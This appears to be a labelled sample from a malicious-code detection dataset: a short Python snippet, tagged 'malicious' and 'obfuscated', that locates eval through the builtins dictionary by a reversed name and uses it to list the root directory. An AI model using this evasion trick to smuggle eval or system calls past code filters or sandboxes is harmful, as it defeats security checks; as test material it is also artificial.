# label: malicious; obfuscated: object_graph,reversed; evasion: object_graph
for k, v in __builtins__.__dict__.items():
    if k[::-1] == "lave":
        print(v("__import__('os').listdir('/')"))
